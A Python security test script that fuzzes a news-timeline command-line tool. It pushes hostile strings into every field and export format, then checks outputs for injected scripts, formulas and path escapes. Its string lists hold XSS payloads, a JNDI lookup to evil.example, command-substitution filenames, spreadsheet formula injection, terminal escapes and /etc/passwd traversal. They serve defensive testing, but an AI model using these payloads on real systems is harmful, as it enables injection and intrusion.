#!/usr/bin/env python3
"""Put hostile words through every field into every output, and read what comes out with the parsers of others.

usage: hostile.py PROGRAM SOURCE_FOLDER WORK_FOLDER

Every command may take the words or refuse them, but must end by itself with 0, 1 or 2. What it prints on a terminal
holds no control character and none that turns the direction of text. What it writes is well-formed, has no element,
attribute, address, column or entry that the words of a story could have made, and holds no formula. File names that
begin with "-", lead out of the folder or are links do nothing that they should not. Exit status 1 when something was not so.
"""

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

STRINGS = [
    b"<script>window.__hit=1</script>",
    b"\"><img src=x onerror=window.__hit=1>",
    b"]]><script>1</script>",
    b"--><svg onload=1><!--",
    b"{{7*7}}${jndi:ldap://evil.example/a}`id`$(id)",
    b"=cmd|' /C calc'!A0",
    b"@SUM(1+1)",
    b"+1;-1\t=2",
    b"x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    b"\x1b[2J\x1b]0;owned\x07\x1b]8;;javascript:1\x07red\x1b[31m",
    b"C1 \xc2\x9b31m and \xc2\x9d0;t\xc2\x9c",
    b"\xe2\x80\xaegnp.exe\xe2\x81\xa6 turned \xe2\x81\xa9\xd8\x9c\xe2\x80\x8f",
    b"nul \x00 within",
    b"lone \xed\xa0\x80 surrogate, \xff\xfe broken \xc0\xaf",
    b"javascript:alert(1)",
    b"https://x.example/\"onmouseover=\"alert(1)",
    b"<<TABLE><TR><TD HREF=\"javascript:1\">x</TD></TR></TABLE>>",
    b"\\\"]; evil [label=\"\\N\\G\"]; x -> y; //",
    b"[link](javascript:alert(1)) ![i](https://evil.example/p.png) <b onclick=1>b</b> `c` # h",
    b"| a | b |\n|---|---|\n# heading\n* item",
    b"../../../../etc/passwd",
    b"--help",
    b"W" * 3000,
    b"&lt;b&gt; &#x3c;script&#x3e; &amp;",
    b"\xef\xbb\xbf\xe2\x80\xa8new\xe2\x80\xa9line",
]
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# Marks that only say the direction of what is beside them (RLM, LRM, ALM) stay in documents, as Arabic and Hebrew need them.
TURNING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
NAMES = [b"-rf", b"--help", b"a b;touch pwned", b"$(touch pwned)", b"x\x1b[31m\nname", b"\xe2\x80\xaetxt.exe", b"bad\xff"]


class Broken(Exception):
    """What was not so."""


class Work:
    def __init__(self, program, source, folder):
        self.program, self.source, self.folder = str(program), source, folder
        self.problems, self.runs = [], 0
        self.environment = {"PATH": os.environ["PATH"], "LC_ALL": "C.UTF-8", "DATELINE_WHO": "Nina", "HOME": str(folder)}

    def run(self, *words, story="s.dateline", stdin=b"", terminal=True):
        """Runs a command and holds its messages, and what it prints, to what a terminal may be given."""
        self.runs += 1
        done = subprocess.run(
            [self.program, "--now", "2016-06-01T09:00Z", "-f", story, *words],
            cwd=self.folder, input=stdin, capture_output=True, env=self.environment, timeout=120,
        )  # fmt: skip
        shown = b" ".join(os.fsencode(word) for word in words)[:120]
        if done.returncode not in (0, 1, 2):
            self.problems.append(f"{shown}: ends with {done.returncode}: {done.stderr[-300:]}")
        for name, printed in (("standard error", done.stderr), ("standard output", done.stdout if terminal else b"")):
            try:
                found = UNSAFE.search(printed.decode("utf8"))
            except UnicodeDecodeError as problem:
                self.problems.append(f"{shown}: {name} is no UTF-8: {problem}")
                continue
            if found:
                around = printed.decode("utf8")[max(0, found.start() - 40) : found.end() + 20]
                self.problems.append(f"{shown}: {name} holds {found[0]!r}: {around!r}")
        return done

    def check(self, what, function, *given):
        try:
            function(*given)
        except (Broken, ValueError, KeyError, ElementTree.ParseError, zipfile.BadZipFile, csv.Error) as problem:
            self.problems.append(f"{what}: {type(problem).__name__} {problem}")


def argument(string):
    """What the system takes as one argument."""
    return string.replace(b"\0", b"")


def fill(work):
    """A story with every string in every field that takes it."""
    folder = work.folder
    rows = [b"file,url,outlet,title,byline,published"]
    for i, string in enumerate(STRINGS):
        (folder / f"a{i}.txt").write_bytes(
            b"Council approves bridge\n\nAda Berg resigned on 2 May 2016. " + string + b'\n\n"' + string
            + b'," said Greta Holm on 3 May 2016. Police arrested ' + string + b" in Varnby on 30 April 2016.\n"
        )  # fmt: skip
        cell = b'"' + string.replace(b'"', b'""') + b'"'
        rows.append(b"a%d.txt,%s,%s,%s,%s,2016-05-04" % (i, cell, cell, cell, cell))
        (folder / f"h{i}.html").write_bytes(
            b'<html><head><title>' + string + b'</title><meta name="author" content="' + string
            + b'"><meta property="article:published_time" content="2016-05-04"></head><body><article><h1>' + string
            + b"</h1><p>Ada Berg resigned on 2 May 2016 after " + string + b" accused her.</p></article></body></html>"
        )  # fmt: skip
    (folder / "all.csv").write_bytes(b"\n".join(rows) + b"\n")
    work.run("add", "--manifest", "all.csv", "--no-questions")
    # A manifest that cannot be read as a whole must not keep the others out.
    for i, string in enumerate(STRINGS):
        word = argument(string)
        work.run("add", f"a{i}.txt", "--published=2016-05-04", b"--outlet=" + word, b"--title=" + word, b"--byline=" + word, b"--url=" + word)
        work.run("add", f"h{i}.html", b"--outlet=Gazette")
        work.run("preview", f"a{i}.txt", "--published", "2016-05-04")
    taken = 0
    for i, string in enumerate(STRINGS):
        word = argument(string)
        made = work.run("add-event", b"--title=" + word, b"--agent=" + word, b"--place=" + word, b"--cite=" + word, f"--date=2016-04-{i + 1:02}")
        taken += made.returncode == 0
        work.run("add-event", b"--title=Plain %d" % i, b"--agent=" + word.replace(b";", b","), b"--cite=" + word, "--date=2016-04-01")
        work.run("note", "--", word, "E1")
        work.run("tag", "--", word, "E1")
        work.run("select", "--", word, "E1")
        work.run("select", "sel", "E%d" % (i + 1))
        work.run("select", "sel", "E%d" % (i + 1), b"--title=" + word)
        work.run("select", "sel", "E%d" % (i + 1), b"--note=" + word)
        work.run("picture", "E%d" % (i + 1), "photo.jpg", b"--alt=" + word, b"--caption=" + word, b"--credit=" + word)
        work.run("alias", "--", "A1", word)
        work.run("ignore", "--", word)
        work.run("ignore", "--forget", "--", word)
        work.run("anchor", "--", word, "2016-05-01")
        work.run("set", "--", "S1", "title", word)
        work.run("set", "--", "A2", "name", word)
        work.run("events", "--", word)
        work.run("events", b"who:" + word)
        work.run("sql", "--", word)
        work.run("path", "--", word, "A1")
        work.run(word)
    if taken < 10:
        raise Broken(f"only {taken} titles of {len(STRINGS)} were taken")
    table = io.StringIO()
    writer = csv.writer(table)
    writer.writerow(["title", "date", "who", "place", "source", "note"])
    for string in STRINGS:
        text = string.decode("utf8", "surrogateescape")
        writer.writerow([text, "2016-05-02", text, text, text, text])
    (folder / "rows.csv").write_bytes(table.getvalue().encode("utf8", "surrogateescape"))
    work.run("import", "rows.csv", "--map", "title=title", "--map", "date=date", "--map", "place=place")
    items = [{"start_date": {"year": 2016}, "text": {"headline": s.decode("utf8", "replace"), "text": s.decode("utf8", "replace")},
              "media": {"url": s.decode("utf8", "replace"), "caption": s.decode("utf8", "replace")}} for s in STRINGS]  # fmt: skip
    (folder / "tl.json").write_text(json.dumps({"events": items}), encoding="utf8")
    work.run("import", "tl.json")
    records = work.run("extract", "a0.txt", "--published", "2016-05-04", terminal=False).stdout
    foreign = [records.replace(b"Ada Berg", json.dumps(s.decode("utf8", "replace"))[1:-1].encode()) for s in STRINGS]
    (folder / "records.jsonl").write_bytes(records + b"".join(foreign) + b"\n".join(STRINGS))
    work.run("add", "--records", "records.jsonl")


TABLES = [
    ["events"], ["events", "--quotes"], ["actors"], ["sources"], ["quotes"], ["claims"], ["selections"], ["select", "sel"],
    ["picture"], ["conflicts"], ["todo"], ["log"], ["path", "Greta Holm", "Ada Berg"], ["met"], ["central"], ["groups"],
    ["show", "E1"], ["show", "A1"], ["show", "S1"], ["diff", "--from", "2016-01-01"], ["stats"],
    ["sql", "SELECT * FROM events"], ["sql", "SELECT * FROM participants"], ["blocks", "S1"],
]  # fmt: skip


def read_json(text):
    return json.loads(text.decode("utf8"))


def read_lines(text):
    return [json.loads(line) for line in text.decode("utf8").split("\n") if line]


def read_csv(text, columns=None):
    """Rows of one width, none with a cell that a spreadsheet would take for a formula."""
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))
    widths = {len(row) for row in rows}
    if len(widths) > 1:
        raise Broken(f"rows are {sorted(widths)} wide")
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "@", "\t", "\r") or (cell[:1] in "+-" and not re.fullmatch(r"[+-]?[\d.,:]*\d?|-", cell[:40]) and not re.match(r"-\d{4,}", cell)):
                raise Broken(f"a spreadsheet would take {cell[:60]!r} for a formula")
            if "\0" in cell:
                raise Broken("a NUL")


VOID = {"meta", "br", "img", "input", "hr", "link", "wbr", "col"}


class Page(HTMLParser):
    """A page as a browser tokenizes it; elements and attributes that only a story's words could have made are told."""

    def __init__(self, text, scripts):
        super().__init__(convert_charrefs=True)
        self.open, self.scripts = [], 0
        self.feed(text)
        self.close()
        if self.open:
            raise Broken(f"not closed: {self.open[-3:]}")
        if self.scripts > scripts:
            raise Broken(f"{self.scripts} scripts")

    def handle_starttag(self, tag, attributes):
        self.handle_startendtag(tag, attributes)
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attributes):
        self.scripts += tag == "script"
        if tag in ("iframe", "object", "embed", "base", "foreignobject", "frame", "applet", "math"):
            raise Broken(f"<{tag}>")
        for name, value in attributes:
            address = (value or "").strip().lower()
            if name.startswith("on"):
                raise Broken(f"{name} in <{tag}>")
            if name in ("href", "src", "cite", "action", "xlink:href") and not re.match(r"https?://|#|data:image/(png|jpeg);base64,|$", address):
                raise Broken(f"{name}={address[:60]!r}")

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        while self.open and self.open[-1] in ("p", "li", "dt", "dd", "td", "tr", "th") and self.open[-1] != tag:
            self.open.pop()
        if not self.open or self.open.pop() != tag:
            raise Broken(f"</{tag}> closes nothing")


def read_html(path, scripts):
    text = path.read_bytes().decode("utf8")
    found = TURNING.search(text)
    if found:
        raise Broken(f"holds {found[0]!r}")
    Page(text, scripts)


def read_svg(path):
    for one in ElementTree.fromstring(path.read_bytes()).iter():
        tag = one.tag.split("}")[-1].lower()
        if tag in ("script", "foreignobject", "iframe", "animate", "set"):
            raise Broken(f"<{tag}>")
        for name, value in one.attrib.items():
            name = name.split("}")[-1].lower()
            if name.startswith("on") or (name == "href" and not re.match(r"https?://|#|data:(image|font)/", value)):
                raise Broken(f"{name}={value[:60]!r}")
    found = TURNING.search(path.read_text(encoding="utf8"))
    if found:
        raise Broken(f"holds {found[0]!r}")


def read_markdown(path):
    """As a page that a renderer makes of it, with its raw HTML let through."""
    text = path.read_bytes().decode("utf8")
    if TURNING.search(text):
        raise Broken(f"holds {TURNING.search(text)[0]!r}")
    if shutil.which("cmark"):
        page = subprocess.run(["cmark", "--unsafe"], input=text.encode(), capture_output=True, check=True).stdout.decode()
        Page(page, 0)
        for bad in re.findall(r"<(?:b|svg|script|td|img [^>]*evil)[ >]", page):
            raise Broken(f"{bad} in the page")


def read_calendar(path):
    raw = path.read_bytes()
    lines = raw.decode("utf8").replace("\r\n ", "").split("\r\n")
    for line in lines:
        if line and not re.match(r"[A-Z-]+(;[^:]*)?:", line) or "\n" in line or "\r" in line:
            raise Broken(f"no line of a calendar: {line[:80]!r}")
    if any(line == "SUMMARY:forged" for line in lines):
        raise Broken("an entry by the words of a title")
    if TURNING.search("".join(lines)):
        raise Broken("a control character")
    kinds = [line for line in lines if line.startswith(("BEGIN:", "END:"))]
    depth = []
    for line in kinds:
        word, name = line.split(":")
        if word == "BEGIN":
            depth.append(name)
        elif not depth or depth.pop() != name:
            raise Broken(f"{line} closes nothing")


def read_word(path):
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("/") or ".." in name:
                raise Broken(f"a part {name!r}")
            if name.endswith((".xml", ".rels")):
                root = ElementTree.fromstring(archive.read(name))
                for one in root.iter():
                    target = one.attrib.get("Target", "")
                    if one.attrib.get("TargetMode") == "External" and not re.match(r"https?://", target):
                        raise Broken(f"a link to {target[:60]!r}")
                    if "instrText" in one.tag:
                        raise Broken("a field")


def read_dot(work, path):
    if not shutil.which("dot"):
        return
    # Only a message on standard error counts: some Graphviz builds warn of fonts.
    done = subprocess.run(["dot", "-Tsvg", "-Gnslimit=1", str(path)], capture_output=True, timeout=120)
    if done.returncode != 0 or b"syntax error" in done.stderr:
        raise Broken(done.stderr[-200:].decode("utf8", "replace"))
    drawn = path.with_suffix(".drawn.svg")
    drawn.write_bytes(done.stdout)
    read_svg(drawn)


def outputs(work):
    """Writes every output and reads it back."""
    folder = work.folder
    for words in TABLES:
        if work.run(*words).returncode == 2:
            raise Broken(f"{words} is no command")
        for form, reader in (("json", read_json), ("jsonl", read_lines), ("csv", read_csv), ("markdown", None)):
            done = work.run(*words, "--format", form, terminal=form == "markdown")
            if done.returncode == 0 and done.stdout and reader:
                work.check(f"{' '.join(words)} --format {form}", reader, done.stdout)
    work.run("timeline", "--all")
    work.run("factsheet", "--all")
    work.run("diagram", "--all")
    work.run("dump")
    work.run("doctor")
    titled = argument(STRINGS[0] + STRINGS[1] + STRINGS[2])
    scripts = {"t.html": 1, "part.html": 0, "f.html": 0, "p.html": 0}
    for name, words in {
        "t.svg": ["timeline", "--all"], "lanes.svg": ["timeline", "--all", "--view", "lanes"],
        "order.svg": ["timeline", "--all", "--view", "order"], "article.svg": ["timeline", "--all", "--view", "article"],
        "storyline.svg": ["timeline", "--view", "storyline"], "t.html": ["timeline", "--all"],
        "part.html": ["timeline", "--all", "--fragment"], "t.md": ["timeline", "--all"], "t.txt": ["timeline", "--all"],
        "f.html": ["factsheet", "--all"], "f.md": ["factsheet", "--all"], "f.docx": ["factsheet", "--all"],
        "d.dot": ["diagram", "--all"], "n.dot": ["diagram", "--view", "actors"], "c.dot": ["diagram", "--view", "causes"],
        "sel.svg": ["timeline", "in:sel", "--all"], "sel.html": ["timeline", "in:sel", "--all"], "sel.md": ["timeline", "in:sel", "--all"],
    }.items():  # fmt: skip
        path = folder / name
        done = work.run(*words, b"--title=" + titled, "-o", name)
        if done.returncode != 0:
            work.problems.append(f"{name}: not written: {done.stderr[-200:]}")
            continue
        reader = {".svg": read_svg, ".md": read_markdown, ".docx": read_word}.get(path.suffix)
        if path.suffix == ".html":
            work.check(name, read_html, path, scripts.get(name, 1))
        elif path.suffix == ".dot":
            work.check(name, read_dot, work, path)
        elif reader:
            work.check(name, reader, path)
        elif TURNING.search(path.read_text(encoding="utf8")):
            work.problems.append(f"{name}: a control character")
    for i in range(len(STRINGS)):
        work.run("preview", f"a{i}.txt", "--published", "2016-05-04", "-o", "p.html")
        work.check(f"preview of a{i}.txt", read_html, folder / "p.html", 0)
    for form, name, reader in (
        ("timelinejs", "x.json", lambda p: read_json(p.read_bytes())), ("timelinejs-csv", "tl.csv", lambda p: read_csv(p.read_bytes())),
        ("csv", "x.csv", lambda p: read_csv(p.read_bytes())), ("ics", "x.ics", read_calendar),
        ("graphml", "x.graphml", read_svg), ("gexf", "x.gexf", read_svg), ("ftm", "x.ftm", lambda p: read_lines(p.read_bytes())),
        ("jsonld", "x.jsonld", lambda p: read_json(p.read_bytes())), ("vis", "x.vis.json", lambda p: read_json(p.read_bytes())),
        ("docx", "x.docx", read_word), ("record", "x.jsonl", lambda p: read_lines(p.read_bytes())), ("turtle", "x.ttl", lambda p: p.read_bytes().decode("utf8")),
    ):  # fmt: skip
        done = work.run("export", form, "--all", "-o", name)
        if done.returncode != 0:
            work.problems.append(f"export {form}: not written: {done.stderr[-200:]}")
        else:
            work.check(f"export {form}", reader, folder / name)
    sheet = work.run("sheet", terminal=False)
    work.check("sheet", read_csv, sheet.stdout)


def paths(work):
    """Names of files that are options, tricks or links; names in archives that lead out of the folder."""
    folder = work.folder
    before = {"/etc/passwd": Path("/etc/passwd").stat().st_mtime_ns}
    inside = folder / "names"
    inside.mkdir()
    article = (folder / "a0.txt").read_bytes()
    for name in NAMES:
        with open(os.fsencode(inside) + b"/" + name, "wb") as out:
            out.write(article.replace(b"2 May", b"%d May" % (NAMES.index(name) + 3)))
        work.run("add", "--published=2016-05-04", "--", b"names/" + name, story="n.dateline")
        work.run("preview", "--published=2016-05-04", "--", b"names/" + name)
        work.run("timeline", "--all", b"-o" + name + b".svg")
    os.symlink("/etc/passwd", inside / "link.txt")
    os.symlink("loop", inside / "loop")
    os.symlink(".", inside / "again")
    work.run("add", "names", "--no-questions", story="n.dateline")
    warc = b"".join(
        b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: %s\r\nWARC-Date: 2016-05-04T00:00:00Z\r\nContent-Type: application/http\r\n"
        b"Content-Length: %d\r\n\r\n%s\r\n\r\n" % (uri, len(body), body)
        for uri in (b"file:///../../pwned", b"javascript:1", b"http://x.example/\x1b[31m")
        for body in [b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body><p>Ada Berg resigned on 2 May 2016 in Varnby.</p></body></html>"]
    )
    (folder / "trick.warc").write_bytes(warc)
    mail = (
        b'From: "../../pwned\x1b[31m" <a@x.example>\r\nSubject: =?utf-8?q?=1B[31m=0D=0ABcc:_x?=\r\nDate: Wed, 4 May 2016 10:00:00 +0000\r\n'
        b'Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="../../pwned"\r\n\r\n'
        b"Ada Berg resigned on 2 May 2016 in Varnby.\r\n--b--\r\n"
    )
    (folder / "trick.eml").write_bytes(mail)
    work.run("add", "trick.warc", "trick.eml", "--no-questions", story="n.dateline")
    work.run("sources", story="n.dateline")
    work.run("events", "--quotes", story="n.dateline")
    work.run("export", "neo4j", "--all", "-o", "neo")
    for bad in ("pwned", "../pwned", "../../pwned"):
        if (folder / bad).exists():
            work.problems.append(f"{bad} was made")
    if Path("/etc/passwd").stat().st_mtime_ns != before["/etc/passwd"]:
        work.problems.append("/etc/passwd was changed")
    # What a link leads to is not replaced by what is written over the link's name elsewhere.
    (folder / "target.svg").write_text("mine")
    os.symlink("target.svg", folder / "alias.svg")
    work.run("timeline", "-o", "alias.svg")
    well = work.run("doctor", story="n.dateline")
    if well.returncode != 0:
        work.problems.append(f"doctor: {well.stdout[-300:]}")


def main():
    program, source, folder = (Path(word).resolve() for word in sys.argv[1:4])
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    shutil.copy(source / "tests/data/pictures/harbour.jpg", folder / "photo.jpg")
    work = Work(program, source, folder)
    fill(work)
    outputs(work)
    paths(work)
    for problem in work.problems:
        print(problem)
    print(f"{work.runs} commands with {len(STRINGS)} hostile strings, {len(work.problems)} wrong")
    return 1 if work.problems else 0


if __name__ == "__main__":
    sys.exit(main())
